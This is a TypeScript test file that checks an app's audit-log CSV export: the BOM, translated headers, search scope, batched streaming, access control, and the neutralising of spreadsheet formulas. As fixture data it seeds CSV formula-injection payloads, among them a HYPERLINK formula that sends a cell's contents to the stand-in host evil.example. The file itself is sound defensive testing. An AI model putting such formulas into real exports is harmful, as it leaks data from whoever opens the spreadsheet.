import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/app.ts';
import { loginAs } from '../helpers/client.ts';
import { makeWorld, type World } from '../helpers/world.ts';
import { inTransaction } from '../../src/plugins/db.ts';
import { recordAudit, type AuditInput } from '../../src/modules/audit/index.ts';

let t: TestApp;
let w: World;

const record = (...inputs: AuditInput[]) =>
  inTransaction(t.app.db, async (tx) => {
    for (const input of inputs) await recordAudit(tx, input);
  });

/** The export as a spreadsheet would read it: the raw bytes, and the records parsed back with csv-parse. */
async function exportAs(username: string, query: string, lang?: 'en') {
  const client = await loginAs(t.app, username);
  if (lang) client.setCookie('lang', lang);
  const res = await client.get(`/audit.csv${query}`);
  const bytes = res.rawPayload;
  const records = res.statusCode === 200 ? (parse(bytes, { bom: true, relax_column_count: false }) as string[][]) : [];
  return { res, bytes, records };
}

beforeAll(async () => {
  // the app's clock: 2026-11-20 10:00 in Shanghai
  t = await createTestApp();
  w = await makeWorld(t.app.db);
  await record(
    {
      who: { userId: w.users.community.id, displayName: '+张三', role: 'community' },
      ip: '203.0.113.5',
      action: 'export.account.role',
      entityType: 'user',
      entityId: 42,
      communityId: w.community.id,
      before: { role: 'resident' },
      after: { role: '=property' },
      note: '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
      at: new Date('2026-11-20T01:02:03Z'),
    },
    {
      who: null,
      ip: '-1',
      action: 'export.login.failure',
      communityId: w.community.id,
      note: '@SUM(1+1)\t多行\n备注, 带逗号和"引号"',
      at: new Date('2026-11-20T01:02:04Z'),
    },
    {
      who: null,
      ip: '198.51.100.1',
      action: 'export.elsewhere',
      communityId: w.otherCommunity.id,
      note: 'another community',
      at: new Date('2026-11-20T01:02:05Z'),
    },
  );
});
afterAll(async () => {
  await t?.close();
});

describe('exporting the audit log as CSV', () => {
  it('is a UTF-8 download with a BOM, a private no-store attachment named for the Shanghai date', async () => {
    const { res, bytes } = await exportAs('admin', '?action=export.');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="audit-20261120.csv"');
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('has a translated header and reads back cell for cell, formulas neutralised, quotes and line breaks kept', async () => {
    const { records } = await exportAs('admin', '?action=export.');
    expect(records[0]).toEqual([
      '记录编号',
      '时间',
      '操作人',
      '角色',
      '来源地址',
      '操作',
      '操作代码',
      '对象类型',
      '对象编号',
      '变更（前 → 后）',
      '变更前（JSON）',
      '变更后（JSON）',
      '备注',
    ]);
    const [, elsewhere, failure, role] = records;
    expect(records).toHaveLength(4);
    expect(elsewhere?.[12]).toBe('another community');
    expect(failure?.slice(1)).toEqual([
      '2026-11-20 09:02:04',
      '',
      '',
      "'-1",
      'export.login.failure',
      'export.login.failure',
      '',
      '',
      '',
      '',
      '',
      `'@SUM(1+1)\t多行\n备注, 带逗号和"引号"`,
    ]);
    expect(role?.slice(1)).toEqual([
      '2026-11-20 09:02:03',
      "'+张三",
      '社区',
      '203.0.113.5',
      'export.account.role',
      'export.account.role',
      '账号',
      '42',
      'role: resident → =property',
      '{"role":"resident"}',
      '{"role":"=property"}',
      `'=HYPERLINK("http://evil.example/?x="&A1,"点我")`,
    ]);
  });

  it('speaks the reader’s language in the header and the labels', async () => {
    const { records } = await exportAs('admin', '?action=export.account', 'en');
    expect(records[0]?.slice(0, 3)).toEqual(['Entry no.', 'Time', 'Person']);
    expect(records[1]?.[3]).toBe('Community');
    expect(records[1]?.[7]).toBe('Account');
  });

  it('applies the same search and the same scope as the page', async () => {
    const mine = await exportAs('community', '?action=export.');
    expect(mine.records.map((r) => r[6]).slice(1)).toEqual(['export.login.failure', 'export.account.role']);
    const dated = await exportAs('admin', '?action=export.&from=2026-11-21');
    expect(dated.records).toHaveLength(1); // the header alone
    const noted = await exportAs('admin', `?q=${encodeURIComponent('点我')}`);
    expect(noted.records.map((r) => r[6]).slice(1)).toEqual(['export.account.role']);
  });

  it('streams more entries than one batch, each exactly once, newest first', async () => {
    const base = Date.parse('2026-09-01T00:00:00Z');
    await record(
      ...Array.from({ length: 1234 }, (_, i) => ({
        who: null,
        ip: '',
        action: 'bulk.entry',
        note: `bulk ${i}`,
        // pairs share a moment across the batch boundaries
        at: new Date(base + Math.floor(i / 2) * 1000),
      })),
    );
    const { res, records } = await exportAs('admin', '?action=bulk.');
    expect(res.statusCode).toBe(200);
    const ids = records.slice(1).map((r) => Number(r[0]));
    expect(ids).toHaveLength(1234);
    expect(new Set(ids).size).toBe(1234);
    const expected = (
      await t.app.db.auditEntry.findMany({ where: { action: 'bulk.entry' }, orderBy: [{ at: 'desc' }, { id: 'desc' }] })
    ).map((e) => e.id);
    expect(ids).toEqual(expected);
  });

  it('a bad search is a 400, and only administrators and community staff may export', async () => {
    expect((await exportAs('admin', '?to=2026-13-01')).res.statusCode).toBe(400);
    expect((await exportAs('propertya', '')).res.statusCode).toBe(404);
    expect((await exportAs('residenta', '')).res.statusCode).toBe(404);
  });

  it('the page links the export of the current search', async () => {
    const res = await (await loginAs(t.app, 'admin')).get('/audit?action=export.&q=x');
    expect(res.body).toContain('href="/audit.csv?action=export.&amp;q=x"');
  });
});
